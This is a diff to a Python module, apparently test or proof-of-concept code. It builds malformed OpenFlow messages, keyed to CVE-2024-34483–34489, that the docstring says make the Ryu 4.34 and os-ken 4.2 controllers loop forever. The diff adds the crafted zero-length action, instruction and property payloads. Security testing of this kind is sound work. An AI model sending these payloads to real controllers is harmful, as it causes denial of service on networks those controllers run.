@@ -46,18 +46,22 @@ ETH_DST = b"\x80\x00\x06\x06" + bytes(6)
 SET_ETH_DST = struct.pack("!HH", 25, 16) + ETH_DST + bytes(2)
 APPLY = struct.pack("!HHxxxx", 4, 8 + 32) + SET_ETH_DST + OUTPUT
 
+ENDLESS_ACTION = struct.pack("!HH", 25, 0) + ETH_DST + bytes(2)
+ENDLESS_INSTRUCTION = struct.pack("!HHxxxx", 4, 0)
+ENDLESS_PROPERTY = struct.pack("!HHxxxxHxxxxxx", 1, 0, 10)
+
 LOOPS = {
     "CVE-2024-34483, a bucket of length 0": multipart(GROUP_DESCRIPTION, _group(_bucket(length=0))),
-    "CVE-2024-34484, an action of length 0 in a bucket": multipart(GROUP_DESCRIPTION, _group(_bucket(bytes(16)))),
+    "CVE-2024-34484, an action of length 0 in a bucket": multipart(GROUP_DESCRIPTION, _group(_bucket(ENDLESS_ACTION))),
     "CVE-2024-34485, an entry of table features of length 0": multipart(TABLE_FEATURES, bytes(64)),
     "CVE-2024-34486, a property of a queue of length 0": message(
-        QUEUE_REPLY, struct.pack("!Ixxxx", 1) + struct.pack("!IIHxxxxxx", 1, 1, 32) + bytes(16)
+        QUEUE_REPLY, struct.pack("!Ixxxx", 1) + struct.pack("!IIHxxxxxx", 1, 1, 32) + ENDLESS_PROPERTY
     ),
-    "CVE-2024-34487, an instruction of length 0": multipart(FLOW, _flow(_match(), bytes(8))),
+    "CVE-2024-34487, an instruction of length 0": multipart(FLOW, _flow(_match(), ENDLESS_INSTRUCTION)),
     "CVE-2024-34488, an entry of length 0": multipart(FLOW, _flow(_match(), length=0)),
     "CVE-2024-34489, an element of a hello of length 0": message(HELLO, bytes(8)),
 }
-"""What makes Ryu 4.34 loop for ever; the last of each pair of words is what is wrong."""
+"""What makes Ryu 4.34 and os-ken 4.2 loop for ever, as anybody can see who leaves `examine` out."""
 
 CUT_OFF = {
     "a flow that ends in its middle": multipart(FLOW, _flow(_match(ETH_DST))[:40]),
